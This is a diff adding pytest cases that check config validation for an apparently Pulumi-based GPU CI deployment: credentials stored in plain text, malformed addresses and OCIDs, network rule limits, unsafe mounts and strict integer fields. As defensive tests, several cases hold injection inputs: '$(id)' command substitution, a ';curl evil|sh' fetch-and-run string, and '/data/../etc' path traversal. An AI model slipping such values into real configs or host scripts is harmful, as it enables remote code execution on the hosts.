@@ -20,6 +20,7 @@ import pulumi
 import pytest
 import yaml
 
+from components.cluster.kind_config import KIND_RELEASES
 from stacks.errors import GpuCiError
 from stacks.fakes import FakeCloud, StackExports
 from stacks.mocks import Registration, run_program
@@ -72,6 +73,52 @@ def platform(**keys: Any) -> dict[str, Any]:
     }
 
 
+def stack_file(values: dict[str, Any], stack: str = "broken") -> dict[str, str]:
+    """`values` as the stack file Pulumi.<stack>.yaml, planned offline (`plan_run`)."""
+    return {stack: yaml.safe_dump({"config": values}, sort_keys=False)}
+
+
+# In a stack file a credential is a `secure:` value (offline: a placeholder).
+APP_SECURE = {**APP, "privateKey": {"secure": "v1:hardening-placeholder"}}
+
+
+def runner_file(**keys: Any) -> dict[str, str]:
+    """A VM stack with its runner, as a stack file."""
+    runner = {"url": "https://github.com/kubeflow", "githubApp": APP_SECURE, **keys}
+    return stack_file(vm(**{"gpu-ci:runner": runner}))
+
+
+def cluster_on(host: dict[str, Any], **cluster: Any) -> dict[str, str]:
+    """An nvkind cluster (these keys) on the host of `host`, as a stack file."""
+    return stack_file({**host, "gpu-ci:cluster": {"name": "gpu-ci", **cluster}})
+
+
+def mounts(*mount: dict[str, str]) -> dict[str, str]:
+    return cluster_on(local(), extraMounts=list(mount))
+
+
+LONG_STACK = "x" * 43
+"""A stack name that makes the runner name gpu-ci-<stack>-gpu-0 56 characters, one over."""
+CIDRS_300 = [f"198.18.{i // 250}.{i % 250}/32" for i in range(300)]
+RUNNER_GROUP_FIX = (
+    "gpu-ci:runner.group: a runner group name here is 1 to 100 letters, digits, spaces, '.', "
+    "'_' or '-', not starting with a space (it is written into the runner's config on the "
+    "host); use the group's name without quotes, `$`, `(` or line breaks, or 'Default' "
+    "[given: [secret]]"
+)
+OCID_FIX = (
+    "ocid1.<type>.<realm>.[region][.future].<unique id>, each part lowercase letters and "
+    "digits (a region may hold '-'); copy it from the OCI console (Identity > Compartments, "
+    "or Tenancy)"
+)
+OWNER_FIX = (
+    "is empty: `owner: ~` or `owner:` with no value is YAML null, which Pulumi hands the "
+    "program as text, not a name; every GPU instance is tagged with the team or person who "
+    "pays for it (pulumi config set gpu-ci:owner my-team)"
+)
+INT_FIX = ": write the number itself, unquoted (true, false and text are no numbers)"
+
+
 def overlay(name: str, **spec: Any) -> dict[str, Any]:
     return {"kind": "RecipeMetadata", "apiVersion": V1, "metadata": {"name": name}, "spec": spec}
 
@@ -110,6 +157,8 @@ class Case:
     secret: tuple[str, ...] = ()
     catalog: dict[str, Any] | None = None
     stacks: dict[str, str] = field(default_factory=dict)
+    stack: str = "broken"
+    """The stack of `stacks` that is planned."""
 
 
 CASES = [
@@ -241,6 +290,52 @@ CASES = [
         "gpu-ci:network: is stored as a secret, but it holds no credential",
         vm(**network()),
         secret=("gpu-ci:network",),
+    ),
+    # -- credentials in plain config, values never echoed (more: test_hardening_plain_credentials)
+    Case(
+        "plain-app-key",
+        "gpu-ci:runner.githubApp.privateKey: is a credential in plain text: set it with "
+        "`pulumi config set --secret --path gpu-ci:runner.githubApp.privateKey < key.pem`",
+        runner(),
+    ),
+    Case(
+        "plain-ssh-key",
+        "gpu-ci:host.privateKey: is a credential in plain text: set it with `pulumi config "
+        "set --secret --path gpu-ci:host.privateKey < ~/.ssh/id_ed25519`",
+        ssh(privateKey=PEM),
+    ),
+    Case(
+        "plain-stack-file-key",
+        "gpu-ci:host.proxy.privateKey: is a credential in plain text",
+        stacks=stack_file(
+            ssh(
+                reboot=False,
+                proxy={"address": "bastion.example.org", "user": "j", "privateKey": PEM},
+            )
+        ),
+    ),
+    Case(
+        "plain-oci-api-key",
+        "gpu-ci:arc.scaleSets[0].ociCredentials.privateKey: is a credential in plain text",
+        arc_stack(launcher()),
+    ),
+    Case(
+        "credential-as-text",
+        "gpu-ci:runner.githubApp: Input should be a valid dictionary or instance of "
+        "GithubAppConfig [given: [secret]]",
+        runner(githubApp="ghp_hardening"),
+    ),
+    # -- a trailing newline passes no pattern (more: test_hardening_config_patterns) -----
+    Case(
+        "newline-address",
+        "gpu-ci:host.address: 'gpu1.example.org\\n' is not a host name or IP address",
+        ssh(address="gpu1.example.org\n"),
+    ),
+    Case(
+        "newline-scale-set-name",
+        "gpu-ci:arc.scaleSets[0].name: not a valid runner label for a scale set",
+        arc_stack(gpu_pod(name="gpu-a10-pod\n")),
+        secret=("gpu-ci:arc",),
     ),
     # -- host versions: the compatibility model ------------------------------------------
     Case(
@@ -462,6 +557,218 @@ CASES = [
         arc_stack(launcher(shapes=[])),
         secret=("gpu-ci:arc",),
     ),
+    # -- late validation: values only a host step's parameter model refused, after the
+    # -- VM and 26 other resources had registered; now refused before the first --------
+    Case(
+        "late-runner-group-subshell",
+        RUNNER_GROUP_FIX,
+        stacks=runner_file(group="GPUs$(id)"),
+    ),
+    Case("late-runner-group-newline", RUNNER_GROUP_FIX, stacks=runner_file(group="GPUs\nx")),
+    Case("late-runner-group-quote", RUNNER_GROUP_FIX, stacks=runner_file(group="GPU's")),
+    Case(
+        "late-runner-label-newline",
+        "gpu-ci:runner.labels: label 0 ('gpu\\n') may hold only letters, digits, '.', '_' "
+        "and '-'; remove the line break, space or other character [given: [secret]]",
+        stacks=runner_file(labels=["gpu\n"]),
+    ),
+    Case(
+        "late-runner-101-labels",
+        "gpu-ci:runner.labels: 101 labels: a runner takes 1 to 100 labels; list only those "
+        "jobs select runners by [given: [secret]]",
+        stacks=runner_file(labels=[f"gpu-{i}" for i in range(101)]),
+    ),
+    Case(
+        "late-runner-name-long-stack",
+        f"gpu-ci:runner: runner name 'gpu-ci-{LONG_STACK}-gpu-0' (56 characters) is not 1 to "
+        "55 letters, digits, '.', '_' or '-' starting with a letter or digit (GitHub allows "
+        "64, and an ephemeral runner appends -<8 hex> per job); runners are named "
+        "gpu-ci-<stack>-gpu-N after the Pulumi project and stack: use a stack name of at "
+        "most 42 characters\n",
+        stacks=stack_file(
+            vm(
+                **{"gpu-ci:runner": {"url": "https://github.com/kubeflow", "githubApp": APP_SECURE}}
+            ),
+            LONG_STACK,
+        ),
+        stack=LONG_STACK,
+    ),
+    Case(
+        "late-nvkind-binary-url-quote",
+        "gpu-ci:host.versions.nvkind.binaryUrl: not an https:// URL without spaces, quotes or "
+        "line breaks (it is written into a host script); give the download's plain https:// "
+        'URL [given: "https://example.org/nvkind\'$(id)"]',
+        stacks=stack_file(
+            local(
+                versions={
+                    "nvkind": {
+                        "binaryUrl": "https://example.org/nvkind'$(id)",
+                        "binarySha256": "a" * 64,
+                    }
+                }
+            )
+        ),
+    ),
+    # -- accepted at plan, failing at apply: refused at config time ------------------------
+    Case(
+        "cluster-on-ipv6-ssh-address",
+        "gpu-ci:host.address: is an IPv6 address, and the nvkind cluster's API server is "
+        "reached at it: the nvkind-cluster step (its certificate and kubeconfig) takes an IPv4 "
+        "address or a DNS name only, and would refuse it after the whole bootstrap; set "
+        "gpu-ci:host.address to the host's IPv4 address or DNS name [given: '2001:db8::10']",
+        stacks=cluster_on(ssh(address="2001:db8::10", gpus=1)),
+    ),
+    Case(
+        "ssh-address-colons",
+        "gpu-ci:host.address: not a valid IPv6 address (nor a host name); give the host's "
+        "address as ssh takes it, e.g. 192.0.2.10, 2001:db8::10 or gpu1.example.org "
+        "[given: ':::1']",
+        stacks=stack_file(ssh(address=":::1")),
+    ),
+    Case(
+        "ssh-address-short-ipv4",
+        "gpu-ci:host.address: not a valid IPv4 address (nor a host name)",
+        stacks=stack_file(ssh(address="10.1.2")),
+    ),
+    Case(
+        "nsg-rules-ssh",
+        "gpu-ci:network.sshSourceCidrs: 300 SSH CIDRs make 301 rules in the VMs' network "
+        "security group (one per CIDR, plus 1 for egress); OCI allows 120 per group: list at "
+        "most 119 CIDRs in sshSourceCidrs and apiSourceCidrs together, merging neighbours "
+        "into larger blocks",
+        stacks=stack_file(vm(**network(sshSourceCidrs=CIDRS_300))),
+    ),
+    Case(
+        "nsg-rules-ssh-and-api",
+        "gpu-ci:network.apiSourceCidrs: 100 SSH and 20 API CIDRs make 121 rules in the VMs' "
+        "network security group",
+        stacks=stack_file(
+            vm(**network(sshSourceCidrs=CIDRS_300[:100], apiSourceCidrs=CIDRS_300[100:120]))
+        ),
+    ),
+    Case(
+        "vcn-prefix-8",
+        "gpu-ci:network.vcnCidr: OCI takes VCN CIDR blocks from /16 to /30, not /8; use e.g. "
+        "10.0.0.0/16 [given: '10.0.0.0/8']",
+        stacks=stack_file(vm(**network(vcnCidr="10.0.0.0/8"))),
+    ),
+    Case(
+        "subnet-prefix-31",
+        "gpu-ci:network.subnetCidr: OCI takes subnet CIDR blocks from /16 to /30, not /31; "
+        "use e.g. 10.0.1.0/24 (inside vcnCidr) [given: '10.0.1.0/31']",
+        stacks=stack_file(vm(**network(subnetCidr="10.0.1.0/31"))),
+    ),
+    Case(
+        "subnet-outside-vcn",
+        "gpu-ci:network.subnetCidr: 10.1.0.0/24 is not inside vcnCidr 10.0.0.0/16",
+        stacks=stack_file(vm(**network(subnetCidr="10.1.0.0/24"))),
+    ),
+    Case(
+        "compartment-shell",
+        "gpu-ci:compartmentId: 'ocid1.compartment.oc1..aaaa;curl evil|sh' is not an OCI "
+        f"OCID: {OCID_FIX}",
+        stacks=stack_file(
+            vm(**{"gpu-ci:compartmentId": "ocid1.compartment.oc1..aaaa;curl evil|sh"})
+        ),
+    ),
+    Case(
+        "compartment-newline",
+        "gpu-ci:compartmentId: 'ocid1.compartment.oc1..aaaa\\nbbbb' is not an OCI OCID: "
+        + OCID_FIX,
+        stacks=stack_file(vm(**{"gpu-ci:compartmentId": "ocid1.compartment.oc1..aaaa\nbbbb"})),
+    ),
+    Case(
+        "tenancy-uppercase",
+        f"gpu-ci:tenancyId: 'ocid1.tenancy.oc1..AAAA_x' is not an OCI OCID: {OCID_FIX}",
+        stacks=stack_file(vm(**{"gpu-ci:tenancyId": "ocid1.tenancy.oc1..AAAA_x"})),
+    ),
+    Case(
+        "ssh-key-comment-cr",
+        "gpu-ci:vm.sshAuthorizedKeys[0]: the key contains a line break or NUL: give one key "
+        "line per entry",
+        stacks=stack_file(vm_with(sshAuthorizedKeys=[SSH_KEY.replace("t@example", "t@\rexample")])),
+    ),
+    Case(
+        "ssh-key-comment-vt",
+        "gpu-ci:vm.sshAuthorizedKeys[0]: the key contains the control character '\\x0b' (a "
+        "vertical tab, form feed or other line separator, often from a paste): remove it; a "
+        "key line is printable text",
+        stacks=stack_file(vm_with(sshAuthorizedKeys=[SSH_KEY.replace("t@example", "t@\vexample")])),
+    ),
+    Case(
+        "runner-url-enterprise-without-name",
+        "gpu-ci:runner.url: https://github.com/enterprises names no enterprise: use "
+        "https://github.com/enterprises/NAME (the enterprise's slug), or "
+        "https://github.com/ORG for an organization",
+        stacks=runner_file(url="https://github.com/enterprises/"),
+    ),
+    Case(
+        "mount-host-root",
+        "gpu-ci:cluster.extraMounts[0]: extraMounts: hostPath '/' would mount the host's whole "
+        "filesystem into every node; mount one directory, such as /data/datasets",
+        stacks=mounts({"hostPath": "/", "containerPath": "/host"}),
+    ),
+    Case(
+        "mount-container-root",
+        "gpu-ci:cluster.extraMounts[0]: extraMounts: containerPath '/' would cover each "
+        "node's own root filesystem; mount one directory, such as /data/datasets",
+        stacks=mounts({"hostPath": "/data", "containerPath": "/"}),
+    ),
+    Case(
+        "mount-dotdot",
+        "gpu-ci:cluster.extraMounts[0]: extraMounts: containerPath '/data/../etc' has a '..' "
+        "segment, so it is not the directory it names; give the path without '..'",
+        stacks=mounts({"hostPath": "/data", "containerPath": "/data/../etc"}),
+    ),
+    Case(
+        "node-image-never-published",
+        "gpu-ci:cluster: nodeImage 'kindest/node:v1.35.9': no kind release publishes v1.35.9, "
+        f"so the pull would fail; use '{KIND_RELEASES['0.31.0'].image('v1.35.0')}' (kind "
+        "v0.31.0's Kubernetes 1.35), or pin an image you built by its digest "
+        "(kindest/node:v1.35.9@sha256:<64 hex>)",
+        stacks=cluster_on(local(), nodeImage="kindest/node:v1.35.9"),
+    ),
+    Case(
+        "owner-yaml-null",
+        f"gpu-ci:owner: {OWNER_FIX}",
+        stacks=stack_file({**vm(), "gpu-ci:owner": None}),
+    ),
+    Case(
+        "owner-empty",
+        f"gpu-ci:owner: {OWNER_FIX} [given: '']",
+        stacks=stack_file({**vm(), "gpu-ci:owner": ""}),
+    ),
+    Case(
+        "strict-count-true",
+        f"gpu-ci:vm.count: Input should be a valid integer{INT_FIX} [given: true]",
+        stacks=stack_file(vm_with(count=True)),
+    ),
+    Case(
+        "strict-count-text",
+        f"gpu-ci:vm.count: Input should be a valid integer{INT_FIX} [given: '2']",
+        stacks=stack_file(vm_with(count="2")),
+    ),
+    Case(
+        "strict-availability-domain-true",
+        f"gpu-ci:vm.availabilityDomains[0]: Input should be a valid integer{INT_FIX}",
+        stacks=stack_file(vm_with(availabilityDomains=[True])),
+    ),
+    Case(
+        "strict-api-port-float",
+        f"gpu-ci:network.apiPort: Input should be a valid integer{INT_FIX} [given: 6443.5]",
+        stacks=stack_file(vm(**network(apiPort=6443.5))),
+    ),
+    Case(
+        "strict-ssh-port-true",
+        f"gpu-ci:host.port: Input should be a valid integer{INT_FIX} [given: true]",
+        stacks=stack_file(ssh(port=True)),
+    ),
+    Case(
+        "strict-app-id-true",
+        f"gpu-ci:runner.githubApp.appId: Input should be a valid integer{INT_FIX} "
+        "[given: [secret]]",
+        stacks=runner_file(githubApp={**APP_SECURE, "appId": True}),
+    ),
 ]
 """ARC cases (min > max runners, bad scale-set names) join once `gpu-ci:arc` exists."""
 
@@ -477,7 +784,7 @@ def _fail(case: Case, tmp_path: Path) -> tuple[BaseException, list[Registration]
             for name, text in case.stacks.items():
                 source = (REPO / f"Pulumi.{name}.yaml").read_text() if text == "<copy>" else text
                 (tmp_path / f"Pulumi.{name}.yaml").write_text(source)
-            plan_run("broken", tmp_path, registrations=registered)
+            plan_run(case.stack, tmp_path, registrations=registered)
         else:
             values = case.values
             if case.catalog is not None:
